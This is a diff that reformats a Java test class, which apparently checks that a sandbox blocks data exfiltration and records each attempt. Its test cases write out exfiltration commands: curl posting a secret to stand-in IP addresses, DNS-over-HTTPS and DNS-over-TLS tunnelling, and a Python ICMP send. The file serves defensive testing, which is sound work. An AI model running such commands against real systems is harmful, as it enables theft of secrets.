@@ -60,8 +60,8 @@ class NetExfiltrationTest {
         DNS_OVER_TCP(dns("exfil-me.tcp.test", 1, "tcp", "203.0.113.53"), Recorded.QUESTION, "tcp.test"),
         DNS_SECOND_QUESTION(secondQuestion(), Recorded.QUESTION, "second.test"),
         DNS_OVER_HTTPS(
-                "curl -sS --max-time 10 -H 'accept: application/dns-json'"
-                        + " 'https://dns.google/resolve?name=" + SECRET + ".doh.test'",
+                "curl -sS --max-time 10 -H 'accept: application/dns-json'" + " 'https://dns.google/resolve?name="
+                        + SECRET + ".doh.test'",
                 Recorded.QUESTION,
                 "dns.google"),
         DNS_OVER_HTTPS_BY_ADDRESS(
@@ -69,13 +69,12 @@ class NetExfiltrationTest {
                 Recorded.CONNECTION,
                 "1.1.1.1"),
         DNS_OVER_TLS(
-                "echo " + SECRET + " | python3 $S/raw.py https 203.0.113.53 853 dot.test | { ! grep -q 'x-capsem-decision: block'; }",
+                "echo " + SECRET
+                        + " | python3 $S/raw.py https 203.0.113.53 853 dot.test | { ! grep -q 'x-capsem-decision: block'; }",
                 Recorded.CONNECTION,
                 "dot.test"),
         DIRECT_ADDRESS(
-                "curl -sSkf --max-time 10 -d " + SECRET + " https://203.0.113.9/",
-                Recorded.CONNECTION,
-                "203.0.113.9"),
+                "curl -sSkf --max-time 10 -d " + SECRET + " https://203.0.113.9/", Recorded.CONNECTION, "203.0.113.9"),
         DIRECT_ADDRESS_PLAIN(
                 "curl -sSf --max-time 10 -d " + SECRET + " http://203.0.113.10:8080/",
                 Recorded.CONNECTION,
@@ -91,8 +90,8 @@ class NetExfiltrationTest {
         QUIC(udp("203.0.113.9", 443), Recorded.NOWHERE, ""),
         UDP_TO_AN_ALLOWED_NAME(udp("web.example.test", 443), Recorded.NOWHERE, ""),
         ICMP(
-                "python3 -c \"import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1);"
-                        + " s.sendto(b'" + SECRET + "', ('203.0.113.9', 0)); s.settimeout(2); s.recv(1)\"",
+                "python3 -c \"import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1);" + " s.sendto(b'"
+                        + SECRET + "', ('203.0.113.9', 0)); s.settimeout(2); s.recv(1)\"",
                 Recorded.NOWHERE,
                 ""),
         CONNECT_TO_ANOTHER_HOST(
@@ -196,7 +195,9 @@ class NetExfiltrationTest {
         String column = attempt.recorded == Recorded.QUESTION ? "qname" : "domain";
         String sql = "SELECT * FROM " + table + " WHERE decision <> 'allowed' AND " + column + " LIKE ? ORDER BY id";
         String pattern = "%" + attempt.trace.toLowerCase(Locale.ROOT) + "%";
-        int before = attempt.recorded == Recorded.NOWHERE ? 0 : sandbox.rows(sql, pattern).size();
+        int before = attempt.recorded == Recorded.NOWHERE
+                ? 0
+                : sandbox.rows(sql, pattern).size();
 
         Executed run = sandbox.exec(attempt.command);
 
@@ -209,8 +210,8 @@ class NetExfiltrationTest {
                 .noneMatch(request -> request.head().contains(SECRET)
                         || new String(request.bodyStart(), java.nio.charset.StandardCharsets.UTF_8).contains(SECRET));
         assertThat(world.upstreams().dns().asked())
-                .noneMatch(question -> question.name().contains("exfil-me")
-                        || question.name().endsWith(".elsewhere.test"));
+                .noneMatch(question ->
+                        question.name().contains("exfil-me") || question.name().endsWith(".elsewhere.test"));
     }
 
     /// A name under an allowed zone can carry data past any list of names: it passes, and is reported.
@@ -223,6 +224,7 @@ class NetExfiltrationTest {
                 "SELECT f.* FROM detection_findings f JOIN security_events e ON e.event_id = f.event_id"
                         + " WHERE e.event_type = 'dns.request' AND f.rule_id = 'dns_noise'");
 
-        assertThat(findings).allSatisfy(finding -> assertThat(finding.text("severity")).isEqualTo("medium"));
+        assertThat(findings)
+                .allSatisfy(finding -> assertThat(finding.text("severity")).isEqualTo("medium"));
     }
 }
